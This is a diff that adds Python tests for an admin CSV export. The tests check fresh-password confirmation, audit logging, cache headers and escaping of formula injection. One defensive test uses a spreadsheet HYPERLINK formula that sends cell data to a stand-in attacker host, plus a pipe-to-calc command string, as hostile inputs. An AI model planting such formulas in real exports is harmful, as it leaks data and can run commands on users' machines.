@@ -1,0 +1,81 @@
+"""Admin CSV exports: a fresh password, an audit entry each, and cells that cannot run formulas."""
+
+import csv
+import io
+
+from sqlalchemy import select
+
+from campus.audit import AuditEntry
+from campus.extensions import db
+from tests import support
+from tests.admin import helpers
+
+EXPORT = "/admin/members/export/csv/"
+
+
+def _rows(response) -> list[dict]:
+    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
+
+
+def _exports(app) -> list[AuditEntry]:
+    with app.app_context():
+        entries = db.session.scalars(select(AuditEntry).where(AuditEntry.action == "export"))
+        return [(e.actor_id, e.object_type, e.summary) for e in entries]
+
+
+def test_an_export_needs_a_fresh_password(app, client):
+    helpers.sign_in_admin(app, client, fresh=False)
+    response = client.get(EXPORT + "?search=example")
+    assert response.status_code == 302
+    assert response.headers["Location"] == (
+        "/admin/confirm/?next=/admin/members/export/csv/?search%3Dexample"
+    )
+    assert _exports(app) == []
+
+
+def test_a_fresh_admin_exports_plain_values_and_the_export_is_logged(app, client):
+    admin_id = helpers.sign_in_admin(app, client)
+    with app.app_context():
+        support.create_user(email="lee@example.com", full_name="Lee Park")
+    response = client.get(EXPORT + "?search=lee")
+    assert response.status_code == 200
+    assert response.mimetype == "text/csv"
+    (row,) = _rows(response)
+    assert row["Email"] == "lee@example.com" and row["Name"] == "Lee Park"
+    ((actor, object_type, summary),) = _exports(app)
+    assert (actor, object_type) == (admin_id, "User")
+    assert summary == "exported 1 Members rows as csv (search 'lee')"
+
+
+def test_exported_cells_cannot_run_as_spreadsheet_formulas(app, client):
+    helpers.sign_in_admin(app, client)
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    with app.app_context():
+        support.create_user(email="mal@example.com", full_name=hostile)
+        support.create_user(email="plus@example.com", full_name=" +1-555-cmd|calc")
+    rows = {r["Email"]: r for r in _rows(client.get(EXPORT))}
+    assert rows["mal@example.com"]["Name"] == "'" + hostile
+    assert rows["plus@example.com"]["Name"] == "' +1-555-cmd|calc"
+    assert rows["mal@example.com"]["Email"] == "mal@example.com"
+
+
+def test_a_password_confirmation_leads_back_to_the_export(app, client):
+    helpers.sign_in_admin(app, client, fresh=False)
+    target = client.get(EXPORT).headers["Location"]
+    done = helpers.post(client, target, {"password": helpers.ADMIN_PASSWORD})
+    assert done.status_code == 302 and done.headers["Location"] == EXPORT
+    assert client.get(EXPORT).status_code == 200
+    assert len(_exports(app)) == 1
+
+
+def test_every_admin_list_exports_its_rows(app, client):
+    helpers.make_catalog(app)
+    helpers.sign_in_admin(app, client)
+    rules = [r.rule for r in app.url_map.iter_rules() if r.endpoint.endswith(".export")]
+    assert EXPORT.rstrip("/") + "/" in [r.replace("<export_type>", "csv") for r in rules]
+    for rule in rules:
+        response = client.get(rule.replace("<export_type>", "csv"))
+        assert response.status_code == 200, rule
+        assert response.headers["Cache-Control"] == "private, no-store"
+        assert "<a href" not in response.get_data(as_text=True)
+    assert len(_exports(app)) == len(rules)
